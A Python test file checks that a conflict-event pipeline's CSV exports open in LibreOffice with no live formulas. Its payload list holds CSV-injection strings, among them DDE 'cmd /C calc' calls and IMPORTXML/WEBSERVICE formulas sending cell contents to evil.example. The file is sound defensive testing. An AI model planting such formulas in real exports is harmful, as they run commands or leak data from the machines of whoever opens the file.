"""Exports an analyst opens in a spreadsheet run no formula; GeoJSON and Parquet keep the text exact."""

import json
import shutil
import subprocess

import pandas as pd
import pytest

from geo.articles import from_text
from geo.gazetteer import load
from geo.pipeline import process_article
from geo.table import FORMULA_STARTS, events_frame, export

# Cells a spreadsheet would run: OWASP's CSV-injection examples and their variants, one per start
# character, with separators, quotes and line breaks inside.
FORMULAS = [
    '=HYPERLINK("http://evil.example/x","click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "=SUM(A1:A9)",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=WEBSERVICE(\"http://evil.example/\"&A2)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    '=IMAGE("http://evil.example/pixel.png")',
    "=A1&A2",
    "==1",
    "= 2*3",
    "=0x41",
    "+1+1",
    "+cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example","x")',
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(1,2)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example","x")',
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\t+2+2",
    '=HYPERLINK("javascript:alert(1)","x")',
    "=1+1,\"a\",b",
    '="x"&"y"',
    "=NOW()",
    "=RAND()*100",
    "=INDIRECT(\"A1\")",
    "=ROW()",
    "+49 30 1234567",
    "-5 dead",
]


def payload_events() -> pd.DataFrame:
    """One event a payload, in every text column an article or a geocoder can fill."""
    rows = []
    for number, payload in enumerate(FORMULAS, start=1):
        rows.append({"event_id": f"f#{number}", "event_type": "Battles", "sub_event_type": "Armed clash",
                     "source": payload, "notes": payload, "actor1": payload, "location": payload,
                     "admin1": payload, "country": "Syria", "latitude": 34.7, "longitude": 36.7,
                     "fatalities": number, "article_id": payload})
    return events_frame(rows)


def spreadsheet_cells(csv_path, tmp_path):
    """Every cell of a CSV as LibreOffice's spreadsheet reads it: (value, is_formula) by row."""
    openpyxl = pytest.importorskip("openpyxl")
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed (tests/run installs libreoffice-calc-nogui)"
    out = tmp_path / "converted"
    # Comma-separated, double quotes, UTF-8 (76), from line 1.
    done = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
                           "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out), str(csv_path)],
                          capture_output=True, text=True, timeout=180)
    book = out / (csv_path.stem + ".xlsx")
    assert book.is_file(), done.stderr
    sheet = openpyxl.load_workbook(book).active
    return [[(cell.value, cell.data_type == "f") for cell in row] for row in sheet.iter_rows()]


def test_a_spreadsheet_runs_no_formula_of_an_exported_csv(tmp_path):
    events = payload_events()
    path = export(events, tmp_path / "events.csv")
    rows = spreadsheet_cells(path, tmp_path)
    header, body = [value for value, _ in rows[0]], rows[1:]
    assert len(body) == len(FORMULAS) >= 30
    assert not [value for row in body for value, formula in row if formula]
    # Each text is still there to read, with its apostrophe, and numbers are still numbers.
    source, fatalities = header.index("source"), header.index("fatalities")
    for payload, row in zip(FORMULAS, body):
        shown = str(row[source][0])
        assert shown.lstrip("'").strip() == payload.strip()
    assert [row[fatalities][0] for row in body] == list(range(1, len(FORMULAS) + 1))


def test_only_cells_a_spreadsheet_would_run_change(tmp_path):
    events = events_frame([{"event_id": "a#1", "event_type": "Protests", "source": "Clashes in Homs",
                            "notes": "Two - three killed", "event_date": "2011-09-24", "fatalities": 3,
                            "latitude": -33.9, "longitude": 18.4}])
    path = export(events, tmp_path / "events.csv")
    back = pd.read_csv(path)
    assert back.loc[0, "source"] == "Clashes in Homs" and back.loc[0, "notes"] == "Two - three killed"
    assert back.loc[0, "latitude"] == -33.9 and back.loc[0, "fatalities"] == 3


def test_geojson_and_parquet_keep_the_text_exact(tmp_path):
    events = payload_events()
    parquet = pd.read_parquet(export(events, tmp_path / "events.parquet"))
    assert list(parquet["source"]) == FORMULAS
    features = json.loads(export(events, tmp_path / "events.geojson").read_text(encoding="utf-8"))["features"]
    assert [f["properties"]["source"] for f in features] == FORMULAS


def test_an_article_titled_with_a_formula_is_exported_inert(tmp_path):
    """The issue's own example, through the real pipeline."""
    title = '=HYPERLINK("http://evil.example/x","click")'
    text = f"{title}\n\n=cmd|' /C calc'!A0 Syrian troops shelled Rastan on Monday, killing ten people."
    result = process_article(from_text(text, "formula"), load())
    assert result.events, "the article should give an event"
    frame = events_frame(result.events)
    assert frame["source"].iloc[0] == title
    rows = spreadsheet_cells(export(frame, tmp_path / "events.csv"), tmp_path)
    assert rows[1:] and not [value for row in rows[1:] for value, formula in row if formula]


def test_every_start_character_of_the_list_is_tried():
    assert {payload[0] for payload in FORMULAS} == set(FORMULA_STARTS)
